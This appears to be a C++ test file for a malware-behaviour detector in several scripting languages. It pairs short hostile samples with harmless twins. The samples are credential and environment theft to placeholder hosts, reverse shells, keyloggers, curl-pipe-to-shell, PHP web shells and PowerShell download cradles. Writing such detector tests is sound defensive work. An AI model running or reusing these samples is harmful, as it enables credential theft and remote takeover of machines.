// The same behaviours in every language but shell: each spy's line and its harmless twin.
#include <gtest/gtest.h>

#include <fmt/format.h>

#include "evidence/recorder.h"
#include "examine/scripts/scripts.h"

using namespace evidence;

namespace {

Reading read(std::string_view text, std::string_view language) {
  return read_alone(examine::scripts(), base::bytes_of(text), fmt::format("script/{}", language));
}

std::string told(const Reading& r) {
  std::string out;
  for (const auto& i : r.sink.items) out += fmt::format("{}:{} {} [{}] at {}\n", name_of(i.facet), i.word, i.value, name_of(i.confidence), i.range.offset);
  return out;
}

void expect_flow(std::string_view language, std::string_view text, std::string_view value) {
  const auto r = read(text, language);
  bool found = false;
  for (const auto& i : r.sink.all(Facet::flow)) found |= i.value == value && i.confidence >= Confidence::medium;
  EXPECT_TRUE(found) << "no '" << value << "' in\n" << text << "\n" << told(r);
}

void expect_none(std::string_view language, std::string_view text) {
  const auto r = read(text, language);
  for (const auto& i : r.sink.all(Facet::flow)) EXPECT_EQ(i.confidence, Confidence::low) << i.value << " in\n" << text << "\n" << told(r);
}

}  // namespace

TEST(Python, Spies) {
  const auto p = "python";
  expect_flow(p, "import requests, os\nrequests.post('http://x.invalid', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n", "credentials to network");
  expect_flow(p, "import os, json\nfrom urllib.request import urlopen, Request\nd = json.dumps(dict(os.environ)).encode()\nurlopen(Request('http://x.invalid', data=d))\n",
              "environment to network");
  expect_flow(p, "import os, requests\nfor k, v in os.environ.items():\n    requests.get('http://x.invalid/?' + k + '=' + v)\n", "environment to network");
  expect_flow(p, "from pynput.keyboard import Listener\nimport requests\nlog = ''\ndef press(key):\n    global log\n    requests.post('http://x.invalid', data=str(key))\nwith Listener(on_press=press) as l:\n    l.join()\n",
              "keystrokes to network");
  expect_flow(p, "import pyperclip, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\nwhile True:\n    s.send(pyperclip.paste().encode())\n", "clipboard to network");
  expect_flow(p, "from PIL import ImageGrab\nimport requests\nim = ImageGrab.grab()\nim.save('/tmp/a.png')\nrequests.post('http://x.invalid', files={'f': im})\n", "screen to network");
  expect_flow(p, "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", "decoded-string to evaluate");
  expect_flow(p, "import requests\nexec(requests.get('http://x.invalid/c').text)\n", "network to evaluate");
  expect_flow(p, "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
              "network to open-shell");
  expect_flow(p, "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nwhile 1:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))\n",
              "network to execute-command");
  expect_flow(p, "import urllib.request, os\nurllib.request.urlretrieve('http://x.invalid/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n", "network to execute-command");
  expect_flow(p, "import os\nos.system('curl -s http://x.invalid/i | sh')\n", "network to execute-command");
  expect_flow(p, "import subprocess\nk = open('/root/.aws/credentials').read()\nsubprocess.run(['curl', '-d', k, 'http://x.invalid'])\n", "credentials to network");
  expect_flow(p, "import os\nk = open('/etc/shadow').read()\nos.system('curl -d \"%s\" http://x.invalid' % k)\n", "credentials to network");
  expect_flow(p, "def steal():\n    with open('/home/a/.aws/credentials') as f:\n        return f.read()\ndef send(d):\n    import requests\n    requests.post('http://x.invalid', json={'d': d})\nsend(steal())\n",
              "credentials to network");
  expect_flow(p, "import socket, getpass, os, urllib.request\nd = socket.gethostname() + getpass.getuser() + os.getcwd()\nurllib.request.urlopen('http://x.invalid/?' + d)\n", "device-id to network");
  expect_flow(p, "from pathlib import Path\nimport requests\nrequests.post('http://x.invalid', data=(Path.home() / '.ssh' / 'id_rsa').read_text())\n", "credentials to network");
  expect_flow(p, "getattr(__import__('os'), 'sys' + 'tem')(__import__('requests').get('http://x.invalid').text)\n", "network to execute-command");
}

TEST(Python, ObjectsThreadsAndGlobals) {
  const auto p = "python";
  expect_flow(p, "import pyperclip, requests\nclass Copy:\n    def __init__(self, url):\n        self.url = url\n    def tell(self, text):\n        requests.post(self.url, data=text)\n"
                 "c = Copy('http://x.invalid')\nc.tell(pyperclip.paste())\n", "clipboard to network");
  expect_flow(p, "import threading, requests\nclass A:\n    def run(self):\n        self.send(open('/root/.aws/credentials').read())\n    def send(self, text):\n        requests.post('http://x.invalid', data=text)\n"
                 "threading.Thread(target=A().run).start()\n", "credentials to network");
  expect_flow(p, "from pynput import keyboard\nimport requests\nlog = ''\ndef press(key):\n    global log\n    log += str(key)\ndef report():\n    requests.post('http://x.invalid', data=log)\n"
                 "keyboard.Listener(on_press=press).start()\nreport()\n", "keystrokes to network");
  expect_flow(p, "from pynput import keyboard\nimport requests\nlog = []\ndef press(key):\n    log.append(key.char)\ndef report():\n    requests.post('http://x.invalid', data=''.join(log))\n"
                 "keyboard.Listener(on_press=press).start()\nreport()\n", "keystrokes to network");
  expect_flow(p, "from threading import Thread\nimport requests\ndef tell(url, text):\n    requests.post(url, data=text)\nThread(target=tell, args=('http://x.invalid', open('/etc/shadow').read())).start()\n",
              "credentials to network");
  expect_flow(p, "import os, pty, socket\nfrom threading import Thread\ndef go(where):\n    s = socket.socket()\n    s.connect(where)\n    for fd in range(3):\n        os.dup2(s.fileno(), fd)\n"
                 "    pty.spawn(os.environ.get('SHELL', '/bin/sh'))\nThread(target=go, args=(('192.0.2.1', 443),)).start()\n", "network to open-shell");
}

TEST(Python, ReplacedPromptsAndReceivedObjects) {
  const auto p = "python";
  expect_flow(p, "import getpass, socket\nask = getpass.getpass\ndef mine(prompt='', stream=None):\n    answer = ask(prompt)\n    s = socket.socket()\n    s.sendto(answer.encode(), ('203.0.113.4', 53))\n    return answer\n"
                 "getpass.getpass = mine\n", "credentials to network");
  expect_flow(p, "import json, subprocess\nfrom urllib.request import urlopen\nfor task in json.load(urlopen('http://x.invalid/t'))['tasks']:\n    subprocess.run(task['line'], shell=True)\n", "network to execute-command");
  const auto nested = read("exec(\"import os\\nos.system('id')\")\n", p);
  EXPECT_EQ(nested.sink.children.size(), 1u);
  // A client that asks for a password and logs in with it.
  expect_none(p, "import getpass, requests\nrequests.post('http://x.invalid', data={'p': getpass.getpass()})\n");
}

TEST(Python, CodeOutOfPicturesAndReplacedClipboards) {
  const auto p = "python";
  expect_flow(p, "with open('a/logo.png', 'rb') as f:\n    tail = f.read()[900:]\nexec(bytes(b ^ 7 for b in tail))\n", "files to evaluate");
  expect_flow(p, "data = open('a.dat', 'rb').read()\nexec(bytes(b ^ 7 for b in data))\n", "decoded-string to evaluate");
  expect_flow(p, "import pickle\nfrom urllib.request import urlopen\nwith urlopen('http://x.invalid/a') as r:\n    blob = r.read()\npickle.loads(blob)\n", "network to evaluate");
  expect_none(p, "exec(open('version.py').read())\n");
  const auto replaced = [&](std::string_view text) {
    const auto r = read(text, p);
    return std::ranges::any_of(r.sink.all(Facet::private_), [](const auto& i) { return i.attributes.contains("replaced"); });
  };
  EXPECT_TRUE(replaced("import re, pyperclip\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^1[a-z]+$', t):\n        pyperclip.copy('1Own')\n"));
  EXPECT_FALSE(replaced("import pyperclip\nt = pyperclip.paste()\nif t != t.strip():\n    pyperclip.copy(t.strip())\n"));
  EXPECT_FALSE(replaced("import pyperclip\nt = pyperclip.paste()\npyperclip.copy('1Own')\n"));
}

TEST(Python, HarmlessTwins) {
  const auto p = "python";
  expect_none(p, "import requests\nr = requests.get('http://x.invalid/data.json')\nopen('data.json', 'w').write(r.text)\n");
  expect_none(p, "import os, requests\nrequests.post('http://x.invalid', headers={'Authorization': 'token ' + os.environ['API_TOKEN']})\n");
  expect_none(p, "import os, subprocess\nenv = os.environ.copy()\nsubprocess.check_call(['make'], env=env)\n");
  expect_none(p, "import base64\nprint(base64.b64decode('aGVsbG8='))\n");
  expect_none(p, "# requests.post('http://x.invalid', data=open('/etc/shadow').read())\nx = 'curl http://x.invalid | sh'\n");
  expect_none(p, "import socket\nsocket.gethostbyname(socket.gethostname())\n");
  expect_none(p, "import os\nproxies = {}\nfor name, value in os.environ.items():\n    if name.lower().endswith('_proxy'):\n        proxies[name.lower()] = value\n");
}

TEST(JavaScript, Spies) {
  const auto j = "javascript";
  expect_flow(j, "const https = require('https');\nconst r = https.request({hostname: 'x.invalid', method: 'POST'}, () => {});\nr.write(JSON.stringify(process.env));\nr.end();\n", "environment to network");
  expect_flow(j, "const fs = require('fs'), os = require('os');\nfetch('http://x.invalid', {method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')});\n", "credentials to network");
  expect_flow(j, "require('https').get('http://x.invalid', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n", "network to evaluate");
  expect_flow(j, "fetch('http://x.invalid').then(r => r.text()).then(t => eval(t));\n", "network to evaluate");
  expect_flow(j, "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decoded-string to evaluate");
  expect_flow(j, "eval(String.fromCharCode(97, 108, 101, 114, 116));\n", "decoded-string to evaluate");
  expect_flow(j, "const {exec} = require('child_process');\nexec('curl http://x.invalid/i | sh');\n", "network to execute-command");
  expect_flow(j, "const cp = require('child_process'), net = require('net');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
              "network to open-shell");
  expect_flow(j, "import axios from 'axios';\nasync function f() { const {data} = await axios.get('http://x.invalid'); new Function(data)(); }\nf();\n", "network to evaluate");
  expect_flow(j, "const os = require('os');\nconst q = {h: os.hostname(), u: os.userInfo().username, d: process.cwd()};\nrequire('http').get('http://x.invalid/?' + JSON.stringify(q));\n", "device-id to network");
}

TEST(JavaScript, SpiesInFunctionsThatNobodyNames) {
  const auto j = "javascript";
  expect_flow(j, "module.exports = function (u) { require('https').get(u, r => { r.on('data', d => eval(d)); }); };\n", "network to evaluate");
  expect_flow(j, "(function (w) { w.fetch; fetch('http://x.invalid', {body: JSON.stringify(process.env)}); })(this);\n", "environment to network");
  expect_flow(j, "const un = t => typeof atob === 'function' ? atob(t) : Buffer.from(t, 'base64').toString();\nconst make = Function;\nmake(un('Y29uc29sZS5sb2coMSk='))();\n", "decoded-string to evaluate");
}

TEST(JavaScript, SpiesThroughLoopsListsAndFiles) {
  const auto j = "javascript";
  expect_flow(j, "const {join} = require('path'); const {promises: fs} = require('fs');\nasync function f() { const g = {}; for (const w of ['a.txt', '.aws/credentials']) g[w] = await fs.readFile(join(process.env.HOME, w));\n"
              "await fetch('http://x.invalid', {body: JSON.stringify(g)}); }\n", "credentials to network");
  expect_flow(j, "const fs = require('fs');\nrequire('https').get('http://x.invalid/a', r => { const o = fs.createWriteStream('/tmp/p.js'); r.pipe(o); o.on('finish', () => require('/tmp/p.js')); });\n",
              "network to load-code");
  expect_flow(j, "const fs = require('fs');\nconst h = ['#!/bin/sh', 'curl -s http://x.invalid/h | sh'].join('\\n');\nfs.writeFileSync('.git/hooks/post-commit', h);\n", "network to execute-command");
  expect_flow(j, "const out = require('child_process').execSync('ls -laR \"$HOME\"');\nfetch('http://x.invalid', {body: out});\n", "files to network");
  expect_flow(j, "const os = require('os'), dns = require('dns');\nconst h = Buffer.from(os.hostname() + os.userInfo().username).toString('hex');\n(h.match(/.{1,60}/g) || []).forEach(p => dns.resolve4(`${p}.x.invalid`, () => {}));\n",
              "device-id to dns");
}

TEST(JavaScript, SpiesInPagesEditorsAndShells) {
  const auto j = "javascript";
  expect_flow(j, "document.addEventListener('submit', e => { const f = e.target.querySelectorAll('input[type=password]');\nconst g = [].map.call(f, x => x.value);\nnew Image().src = 'https://x.invalid/p?' + g.join('&'); });\n",
              "credentials to network");
  expect_flow(j, "let log = '';\ndocument.addEventListener('keydown', e => { log += e.key; navigator.sendBeacon('https://x.invalid', log); });\n", "keystrokes to network");
  expect_flow(j, "const vscode = require('vscode'), fs = require('fs');\nfunction keep(d) { fetch('https://x.invalid', {body: fs.readFileSync(d.fileName)}); }\nexports.activate = c => c.push(vscode.workspace.onDidSaveTextDocument(keep));\n",
              "files to network");
  expect_flow(j, "const {spawn: s} = require('node:child_process');\nconst W = require('ws'), c = new W('wss://x.invalid');\nconst sh = s('/bin/sh', []);\nc.on('message', m => sh.stdin.write(m));\n", "network to execute-command");
}

TEST(JavaScript, SpiesThatAnswerEvents) {
  const auto j = "javascript";
  expect_flow(j, "import { readFileSync } from 'node:fs';\nimport https from 'node:https';\nconst d = readFileSync('/root/.ssh/id_rsa');\nconst r = https.request({host: 'x.invalid', method: 'POST'});\nr.write(d);\nr.end();\n",
              "credentials to network");
  expect_flow(j, "const x = new XMLHttpRequest();\nx.open('GET', 'https://x.invalid/p');\nx.onload = function () { eval(x.responseText); };\nx.send();\n", "network to evaluate");
  expect_flow(j, "const s = new WebSocket('wss://x.invalid');\ns.onmessage = async e => { new Function(e.data)(); };\n", "network to evaluate");
  expect_flow(j, "(0, eval)(Buffer.from('YWxlcnQoMSk=', 'base64').toString());\n", "decoded-string to evaluate");
  expect_none(j, "const s = new WebSocket('wss://x.invalid');\ns.onmessage = e => { console.log(JSON.parse(e.data)); };\n");
}

TEST(JavaScript, HiddenNames) {
  const auto escaped = read("var a=['\\x65\\x78\\x65\\x63','\\x68\\x74\\x74\\x70','\\x67\\x65\\x74','\\x64\\x61\\x74\\x61','\\x70\\x75\\x73\\x68'];", "javascript");
  EXPECT_TRUE(escaped.sink.has(Facet::concealment, "decoded-string")) << told(escaped);
  const auto plain = read("var a=['exec','http','get','data','push','\\u2013','\\x1b[0m','\\n\\r\\t','\\u00e9t\\u00e9','<\\x2fscript>'];", "javascript");
  EXPECT_FALSE(plain.sink.has(Facet::concealment, "decoded-string")) << told(plain);
}

TEST(JavaScript, HarmlessTwins) {
  const auto j = "javascript";
  expect_none(j, "document.addEventListener('submit', e => { const f = e.target.querySelectorAll('input[type=password]'); [].forEach.call(f, x => x.classList.add('missing')); fetch('https://x.invalid/ping'); });\n");
  expect_none(j, "document.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('https://x.invalid/next'); });\n");
  expect_none(j, "const os = require('os');\nfetch('http://x.invalid', {headers: {host: os.hostname()}});\n");
  expect_none(j, "const x = Function('return this')();\nfetch('http://x.invalid').then(r => r.json()).then(d => console.log(d));\n");
  expect_none(j, "fetch('http://x.invalid', {headers: {a: process.env.API_TOKEN}});\n");
  expect_none(j, "if (process.env.NODE_ENV === 'production') module.exports = require('./a');\n");
  expect_none(j, "const s = atob('aGVsbG8='); console.log(s);\n");
}

TEST(Php, SpiesAndTwins) {
  expect_flow("php", "<?php eval(base64_decode('ZWNobyAxOw==')); ?>", "decoded-string to evaluate");
  expect_flow("php", "<?php @eval($_POST['x']);", "network to evaluate");
  expect_flow("php", "<?php $c = $_GET['c']; system($c);", "network to execute-command");
  expect_flow("php", "<?php $r = 'sys' . 'tem'; $q = $_REQUEST['q'] ?? null; if ($q) { $r($q); }", "network to execute-command");
  expect_flow("php", "<?php echo shell_exec(base64_decode($_SERVER['HTTP_X_CMD']));", "network to execute-command");
  expect_flow("php", "<?php $f = fopen('php://input', 'r'); eval(stream_get_contents($f));", "network to evaluate");
  expect_flow("php", "<?php array_map('assert', array($_POST['z']));", "network to evaluate");
  expect_flow("php", "<?php $h = curl_init('http://x.invalid/s'); $c = curl_exec($h); file_put_contents('/tmp/x.php', $c); include '/tmp/x.php';", "network to evaluate");
  expect_flow("php", "<?php $_GET['f']($_POST['x']);", "network to evaluate");
  expect_flow("php", "<?php eval(file_get_contents('http://x.invalid/a'));", "network to evaluate");
  expect_flow("php", "<?php $s = fsockopen('192.0.2.1', 44); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s), $x);", "network to open-shell");
  expect_none("php", "<?php echo htmlspecialchars($_GET['q']); include 'a.php'; $x = base64_decode('aGVsbG8=');");
}

TEST(Ruby, SpiesAndTwins) {
  expect_flow("ruby", "require 'net/http'\nNet::HTTP.post(URI('http://x.invalid'), File.read(File.expand_path('~/.ssh/id_rsa')))\n", "credentials to network");
  expect_flow("ruby", "require 'base64'\neval(Base64.decode64('cHV0cyAx'))\n", "decoded-string to evaluate");
  expect_flow("ruby", "require 'open-uri'\neval(URI.open('http://x.invalid/a').read)\n", "network to evaluate");
  expect_flow("ruby", "Net::HTTP.post_form(URI('http://x.invalid'), ENV.to_h)\n", "environment to network");
  expect_none("ruby", "system 'make'\nputs ENV['HOME']\nNet::HTTP.get(URI('http://x.invalid'))\n");
}

TEST(Perl, SpiesAndTwins) {
  expect_flow("perl", "use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nmy $r = $ua->get('http://x.invalid');\neval $r->content;\n", "network to evaluate");
  expect_flow("perl", "use MIME::Base64;\neval(decode_base64('cHJpbnQgMQ=='));\n", "decoded-string to evaluate");
  expect_flow("perl", "system(\"curl http://x.invalid/i | sh\");\n", "network to execute-command");
  expect_flow("perl", "my $k = `cat ~/.ssh/id_rsa`;\nuse LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\n$ua->post('http://x.invalid', { k => $k });\n", "credentials to network");
  expect_none("perl", "use strict;\nmy $x = $ENV{HOME};\neval { foo() };\nsystem('ls', $x);\n");
}

TEST(PowerShell, SpiesAndTwins) {
  const auto s = "powershell";
  expect_flow(s, "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')\n", "network to evaluate");
  expect_flow(s, "Invoke-WebRequest -Uri http://x.invalid -UseBasicParsing | iex\n", "network to evaluate");
  expect_flow(s, "$x = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCAx'))\niex $x\n", "decoded-string to evaluate");
  expect_flow(s, "$c = Get-Clipboard\nInvoke-RestMethod -Uri http://x.invalid -Method POST -Body $c\n", "clipboard to network");
  expect_flow(s, "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 44)\n$s = $c.GetStream()\n$r = New-Object IO.StreamReader($s)\n$d = iex $r.ReadLine()\n", "network to evaluate");
  expect_none(s, "Invoke-WebRequest -Uri http://x.invalid -OutFile a.zip\nWrite-Host $env:PATH\n");
}

TEST(Triggers, Dates) {
  EXPECT_TRUE(read("import time, os\nif time.time() > 1893456000:\n    os.system('x')\n", "python").sink.has(Facet::concealment, "time-trigger"));
  EXPECT_TRUE(read("import datetime, os\nif datetime.datetime.now() > datetime.datetime(2030, 1, 1):\n    os.system('x')\n", "python").sink.has(Facet::concealment, "time-trigger"));
  EXPECT_TRUE(read("if (Date.now() > new Date('2030-01-01')) { eval(x); }", "javascript").sink.has(Facet::concealment, "time-trigger"));
  EXPECT_FALSE(read("import time, os\nif time.time() - start > 3600:\n    os.system('x')\n", "python").sink.has(Facet::concealment, "time-trigger"));
}

TEST(Units, NameTheFunction) {
  const auto r = read("import os\n\ndef f():\n    os.system('x')\n", "python");
  ASSERT_FALSE(r.sink.all(Facet::command).empty());
  EXPECT_EQ(r.sink.all(Facet::command)[0].unit, "f:3");
}
